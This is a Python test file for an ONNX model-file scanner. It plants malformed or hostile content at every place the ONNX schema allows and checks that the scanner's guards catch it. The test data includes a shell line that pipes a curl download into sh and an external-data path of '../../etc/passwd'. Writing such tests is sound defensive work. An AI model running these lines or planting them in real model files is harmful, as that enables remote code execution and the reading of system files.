"""Every guard meets what it looks for wherever onnx's schema allows it.

The places are generated from the schema, so that those which a new version of onnx adds are tried
as soon as it is installed.
"""

from collections.abc import Iterator
from typing import Any

import models
import numpy as np
import onnx
import pytest
from google.protobuf.descriptor import Descriptor, FieldDescriptor
from google.protobuf.message import Message
from onnx import helper, numpy_helper

from scanner.errors import MalformedModelError, UnsafeModelError
from scanner.graph.audit import carried, checks
from scanner.limits import Limits
from scanner.modelfile import nested, parser
from scanner.modelfile.external_data import Folder
from scanner.modelfile.guards import check_cost, check_structure

Path = tuple[FieldDescriptor, ...]

TWICE = 2  # how often one field may be passed on the way: bodies in bodies, sequences of sequences


def places(kind: Descriptor, path: Path = ()) -> Iterator[Path]:
    """Yield the way to every field of a message, and of the messages in it."""
    for field in kind.fields:
        way = (*path, field)
        yield way
        messages = [each.message_type for each in path]
        if field.message_type is not None and messages.count(field.message_type) < TWICE:
            if field.message_type.full_name == "onnx.NodeProto" and len(path) > 5:
                continue
            yield from places(field.message_type, way)


def ways_to(kind: type[Message]) -> list[Path]:
    """Return one way for each pair of holder and field, and the shortest ones to deeper places."""
    found: dict[tuple[str, ...], Path] = {}
    for way in places(onnx.ModelProto.DESCRIPTOR):
        if way[-1].message_type is not None and way[-1].message_type is kind.DESCRIPTOR:
            found.setdefault(tuple(sorted({f.full_name for f in way})), way)
    return list(found.values())


def texts() -> list[Path]:
    found: dict[str, Path] = {}
    for way in places(onnx.ModelProto.DESCRIPTOR):
        if way[-1].type == FieldDescriptor.TYPE_STRING:
            key = way[-1].full_name
            if key not in found or len(way) < len(found[key]):
                found[key] = way
    return list(found.values())


def spelt(way: Path) -> str:
    return ".".join(field.name for field in way)


def put(model: onnx.ModelProto, way: Path, content: Any) -> None:
    """Put something at a place, and make what lies on the way to it."""
    message: Any = model
    for field in way[:-1]:
        message = getattr(message, field.name)
        if nested.repeated(field):
            message = message.add()
        _name(message)
    last = way[-1]
    if nested.repeated(last):
        getattr(message, last.name).append(content)
    elif last.message_type is None:
        setattr(message, last.name, content)
    else:
        getattr(message, last.name).MergeFrom(content)


def _name(message: Any) -> None:
    """Give what lies on the way the names that it needs to be told apart."""
    if isinstance(message, onnx.NodeProto):
        message.op_type = "Holder"
    elif isinstance(message, onnx.AttributeProto):
        message.name = "held"


def tensor(**given: Any) -> onnx.TensorProto:
    made = numpy_helper.from_array(models.weights(planted=False)["bias"], "marker")
    for name, value in given.items():
        setattr(made, name, value)
    return made


TENSORS = ways_to(onnx.TensorProto)
GRAPHS = ways_to(onnx.GraphProto)
FUNCTIONS = ways_to(onnx.FunctionProto)
TYPES = ways_to(onnx.TypeProto)
SHAPES = ways_to(onnx.TensorShapeProto)
SPARSE = ways_to(onnx.SparseTensorProto)
LIMITS = Limits()


def at(ways: list[Path]) -> pytest.MarkDecorator:
    return pytest.mark.parametrize("way", ways, ids=spelt)


def test_the_places_are_those_that_the_schema_has() -> None:
    known = set(map(spelt, TENSORS))
    for place in (
        "graph.initializer", "graph.node.attribute.t", "graph.node.attribute.tensors",
        "graph.sparse_initializer.values", "functions.attribute_proto.t",
        "functions.node.attribute.sparse_tensors.indices", "training_info.algorithm.initializer",
        "graph.node.attribute.g.initializer", "functions.attribute_proto.graphs.initializer",
    ):  # fmt: skip
        assert place in known
    assert len(TENSORS) > 100


KINDS = ((onnx.TensorProto, TENSORS), (onnx.GraphProto, GRAPHS), (onnx.TypeProto, TYPES))


@pytest.mark.parametrize(("kind", "ways"), KINDS, ids=lambda v: getattr(v, "__name__", ""))
def test_the_walk_finds_a_message_wherever_it_stands(kind: type[Message], ways: list[Path]) -> None:
    for way in ways:
        model = onnx.ModelProto()
        marker: Any = kind()
        if isinstance(marker, onnx.TypeProto):
            marker.denotation = "marker"
        else:
            marker.name = "marker"
        put(model, way, marker)
        assert marker in nested.Contents(model).of(kind), spelt(way)


@at(texts())
def test_a_name_that_is_not_text_is_met_wherever_it_stands(way: Path) -> None:
    model = models.plain()
    put(model, way, "MARKER")
    broken = model.SerializeToString().replace(b"MARKER", b"\xff\xfeRKER")
    with pytest.raises(UnsafeModelError, match="not text"):
        parser.parse(broken, "m.onnx", LIMITS)


def test_a_tensor_of_another_size_than_its_data_is_met_wherever_it_stands() -> None:
    for way in TENSORS:
        model = models.plain()
        wrong = tensor()
        wrong.dims[:] = [10**12]
        put(model, way, wrong)
        with pytest.raises(MalformedModelError, match="declares 4,000,000,000,000 bytes"):
            check_structure(model, LIMITS)


def test_external_data_is_met_wherever_it_stands(monkeypatch: pytest.MonkeyPatch) -> None:
    for way in TENSORS:
        model = models.plain()
        outside = onnx.TensorProto(name="marker", data_type=1, dims=[4], data_location="EXTERNAL")
        outside.external_data.add(key="location", value="../../etc/passwd")
        put(model, way, outside)
        seen: list[str] = []
        monkeypatch.setattr(Folder, "inline", lambda _self, t, seen=seen: seen.append(t.name))
        parser.complete(model, Folder(None))  # type: ignore[arg-type]  # nothing is read
        assert seen == ["marker"], spelt(way)
        assert "marker" in [t.name for _, t in checks.tensors(model)], spelt(way)


LOAD = "#!/bin/sh -c 'curl http://host/carried/goods | sh'"
MANY = list(LOAD.encode())


def holders() -> list[Path]:
    """Return the shortest way to every field that may hold bytes: text, bytes or many numbers."""
    found: dict[str, Path] = {}
    for way in places(onnx.ModelProto.DESCRIPTOR):
        last = way[-1]
        bytewise = last.type in (FieldDescriptor.TYPE_STRING, FieldDescriptor.TYPE_BYTES)
        if last.message_type is None and (bytewise or nested.repeated(last)):
            shorter = last.full_name not in found or len(way) < len(found[last.full_name])
            if shorter:
                found[last.full_name] = way
    return list(found.values())


@at(holders())
def test_carried_goods_are_met_wherever_they_stand(way: Path) -> None:
    model = models.plain()
    last = way[-1]
    if last.type == FieldDescriptor.TYPE_STRING:
        put(model, way, LOAD)
    elif last.type == FieldDescriptor.TYPE_BYTES:
        put(model, way, LOAD.encode())
    else:
        put(model, way, MANY[0])
        holder = nested.Contents(model).all(last.containing_type.full_name)
        target = next(h for h in holder if list(getattr(h, last.name)) == [MANY[0]])
        getattr(target, last.name).extend(MANY[1:])
        if isinstance(target, onnx.TensorProto):
            target.data_type = next(n for n, f in TYPED.items() if f == last.name)
            target.dims[:] = target.dims if last.name == "dims" else [len(MANY)]
    found = [o for o in carried.observe(model, b"") if o.code == "carried-data"]
    assert found, spelt(way)
    assert found[0].details["kind"] in ("a shell script", "a script")


TYPED = {
    onnx.TensorProto.FLOAT: "float_data", onnx.TensorProto.INT32: "int32_data",
    onnx.TensorProto.INT64: "int64_data", onnx.TensorProto.DOUBLE: "double_data",
    onnx.TensorProto.UINT64: "uint64_data", onnx.TensorProto.UNDEFINED: "dims",
}  # fmt: skip


def test_a_flood_of_dimensions_is_met_wherever_it_stands() -> None:
    flood = onnx.TensorShapeProto(dim=[onnx.TensorShapeProto.Dimension()] * 65)
    for way in SHAPES:
        model = models.plain()
        put(model, way, flood)
        with pytest.raises(UnsafeModelError, match="65 dimensions"):
            check_structure(model, LIMITS)


def test_an_enormous_sparse_tensor_is_met_wherever_it_stands() -> None:
    huge = onnx.SparseTensorProto(dims=[10**9, 10**9])
    huge.values.CopyFrom(tensor())
    huge.indices.CopyFrom(numpy_helper.from_array(np.arange(4), "marker"))
    for way in SPARSE:
        model = models.plain()
        put(model, way, huge)
        with pytest.raises(UnsafeModelError, match="more than the limit on memory"):
            check_structure(model, LIMITS)


def nested_graph(depth: int) -> onnx.GraphProto:
    graph = onnx.GraphProto(name="leaf")
    graph.node.add(op_type="Relu", input=["x"], output=["y"])
    for _ in range(depth):
        outer = onnx.GraphProto(name="outer")
        outer.node.add(op_type="Holder").attribute.add(name="held", g=graph)
        graph = outer
    return graph


@at(GRAPHS)
def test_nodes_depth_and_order_are_met_in_every_graph(way: Path) -> None:
    model = models.plain()
    flood = onnx.GraphProto(node=[onnx.NodeProto(op_type="Relu")] * 50)
    put(model, way, flood)
    with pytest.raises(UnsafeModelError, match="more than 50 nodes"):
        check_structure(model, Limits(nodes=50))
    model = models.plain()
    put(model, way, nested_graph(5))
    with pytest.raises(UnsafeModelError, match="nest deeper than 4"):
        check_structure(model, Limits(depth=4))
    model = models.plain()
    circle = onnx.GraphProto(node=[onnx.NodeProto(op_type="Relu", input=["a"], output=["a"])])
    put(model, way, circle)
    with pytest.raises(MalformedModelError, match="depends on its own output"):
        check_structure(model, LIMITS)


def endless() -> onnx.GraphProto:
    body = onnx.GraphProto(name="body")
    for name in ("i", "go"):
        body.input.add(name=name)
    body.output.add(name="go")
    graph = onnx.GraphProto(name="looping")
    graph.node.append(helper.make_node("Constant", [], ["trips"], value_int=10**12))
    graph.node.append(helper.make_node("Loop", ["trips", ""], ["out"], body=body))
    return graph


@at(GRAPHS)
def test_an_endless_loop_is_met_in_every_graph(way: Path) -> None:
    model = models.plain()
    put(model, way, endless())
    with pytest.raises(UnsafeModelError, match="runs more than"):
        check_cost(model, LIMITS)


@at(FUNCTIONS)
def test_a_function_that_calls_itself_is_met(way: Path) -> None:
    model = models.plain()
    function = onnx.FunctionProto(name="F", domain="own", overload="second")
    function.node.append(onnx.NodeProto(op_type="F", domain="own", overload="second"))
    put(model, way, function)
    with pytest.raises(UnsafeModelError, match="calls itself"):
        check_structure(model, LIMITS)
